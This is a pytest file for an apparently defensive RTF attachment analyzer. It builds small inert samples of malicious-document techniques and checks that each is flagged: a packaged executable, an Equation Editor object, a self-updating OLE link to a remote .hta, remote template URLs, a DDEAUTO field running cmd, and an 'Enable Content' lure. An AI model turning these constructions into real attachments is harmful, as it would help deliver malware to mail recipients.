"""The Rich Text unit: objects, exploits of their readers, remote templates."""

from __future__ import annotations

import pytest

from analyzers.attachments import rtf
from analyzers.attachments.rtf import UNIT
from analyzers.model.observation import Observation, Severity
from analyzers.model.unit import Unreadable
from tests.analyzers.attachments.observed import children, facts, findings, observe, survives
from tests.samples.office import packaged, rich_object, rich_text


def seen(body: str) -> list[Observation]:
    return observe(UNIT, rich_text(body), "sample.rtf", "rtf")


def test_a_plain_document_has_no_findings() -> None:
    found = seen("{\\info{\\author Billing}}\\pard Dear all\\par")
    assert not findings(found)
    assert facts(found) == {"Author": "Billing"}


def test_an_embedded_object_becomes_a_child() -> None:
    inner = b"inner " * 9
    assert children(seen(rich_object(b"Excel.Sheet.8", inner))) == {"object 1": inner}


def test_a_packed_program_is_a_grave_finding() -> None:
    found = seen(rich_object(b"Package", packaged("a.exe", b"content")[4:]))
    assert children(found) == {"a.exe": b"content"}
    assert findings(found)["office.object.package"].severity is Severity.HIGH


def test_an_equation_object_is_critical() -> None:
    found = findings(seen(rich_object(b"Equation.3", bytes(80))))
    assert found["rtf.object.equation"].severity is Severity.CRITICAL


def test_a_linked_object_that_loads_itself_is_found() -> None:
    moniker = "https://cdn.test/a.hta".encode("utf-16-le")
    found = findings(seen(rich_object(b"OLE2Link", bytes(40) + moniker, "\\objupdate")))
    assert found["rtf.object.link"].evidence == "hxxps://cdn[.]test/a.hta"
    assert "rtf.object.update" in found


def test_object_data_in_disguise_is_named() -> None:
    found = findings(seen("{\\object{\\*\\objdata " + "ab" * 80 + "}}"))
    assert "rtf.object.unclear" in found


@pytest.mark.parametrize(
    "target", ["https://cdn.test/a.dotm", "\\\\\\\\files.test\\\\a.dotm", "\\'68ttp://cdn.test/a"]
)
def test_a_remote_template_is_critical(target: str) -> None:
    found = findings(seen("{\\*\\template " + target + "}"))
    assert found["rtf.template.remote"].severity is Severity.CRITICAL


def test_a_local_template_is_no_finding() -> None:
    assert not findings(seen("{\\*\\template Normal.dotm}"))


def test_a_dde_field_is_found() -> None:
    assert "office.dde" in findings(seen('{\\field{\\*\\fldinst DDEAUTO cmd "/k dir"}}'))


def test_a_request_to_switch_protection_off_is_found() -> None:
    assert "office.lure.enable" in findings(seen("Press Enable {\\b Content} to view"))


def test_a_malformed_header_is_found() -> None:
    assert "rtf.header.malformed" in findings(observe(UNIT, b"{\\rtxyz hello}", "a.rtf", "rtf"))


def test_size_and_objects_beyond_the_limits_are_named(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(rtf, "PARSED", 4_000)
    monkeypatch.setattr(rtf, "OBJECTS", 2)
    found = findings(seen(rich_object(b"A", b"x") * 3 + " " * 5_000))
    assert {"limit.rtf.size", "limit.rtf.objects"} <= set(found)


def test_what_has_no_header_is_unreadable() -> None:
    with pytest.raises(Unreadable):
        observe(UNIT, b"hello", "a.rtf", "rtf")


def test_damaged_documents_never_crash_the_unit() -> None:
    body = rich_object(b"Package", packaged("a.exe", b"content")[4:]) + "{\\*\\template http://a}"
    assert survives(UNIT, rich_text(body), "rtf", 150)
